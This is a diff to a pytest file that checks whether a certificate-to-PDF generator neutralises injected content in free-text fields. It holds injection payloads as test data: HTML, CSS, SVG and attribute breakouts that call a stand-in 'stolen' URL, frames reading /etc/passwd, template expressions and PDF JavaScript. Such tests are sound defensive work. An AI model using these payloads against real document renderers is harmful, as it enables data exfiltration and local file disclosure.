@@ -14,7 +14,7 @@ from typing import Any
 import pytest
 
 pytest.importorskip("weasyprint")
-pikepdf = pytest.importorskip("pikepdf")
+import pikepdf
 
 from certify.errors import CertifyError
 from certify.evidence.certificate import Certificate, Level
@@ -29,9 +29,9 @@ Path = tuple[str | int, ...]
 OUTSIDE = "http://127.0.0.1:9/stolen"
 KINDS = {
     "html": f"<script>fetch('{OUTSIDE}')</script><img src='{OUTSIDE}'><iframe src=file:///etc/passwd></iframe>",
-    "link": f"<link rel=stylesheet href='{OUTSIDE}'><link rel=attachment href=file:///etc/passwd><base href='{OUTSIDE}'>",
+    "link": f"<link rel=stylesheet href='{OUTSIDE}'><link rel=attachment href=file:///etc/passwd><base href={OUTSIDE}>",
     "css": f"</style><style>@import '{OUTSIDE}'; * {{ display: none; background: url({OUTSIDE}) }}</style>",
-    "attribute": f"\" onload=\"x\" style=\"background:url({OUTSIDE})\" ' style='position:fixed;top:-99cm",
+    "attribute": f'" onload="x" style="background:url({OUTSIDE})" \' style=\'position:fixed;top:-99cm',
     "svg": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{OUTSIDE}'/><text y='-999'>x</text></svg>",
     "template": "{{ 7*7 }} {% include 'x' %} {# gone #} ${7*7} #{7*7}",
     "pdf": ") Tj ET /Catalog << /OpenAction /JS (app.alert\\(1\\)) >> endobj %%EOF (",
@@ -134,7 +134,13 @@ def judge(pdf: bytes) -> None:
 
 def test_most_of_a_certificate_is_free_text() -> None:
     fields = {tuple(step for step in path if isinstance(step, str)) for path in free_fields()}
-    assert {("model", "name"), ("issuer",), ("caveats",), ("rules", "message"), ("declaration", "intendedUse")} <= fields
+    assert {
+        ("model", "name"),
+        ("issuer",),
+        ("caveats",),
+        ("rules", "message"),
+        ("declaration", "intendedUse"),
+    } <= fields
     assert not fields & {("serial",), ("model", "identity"), ("validUntil",)}
 
 
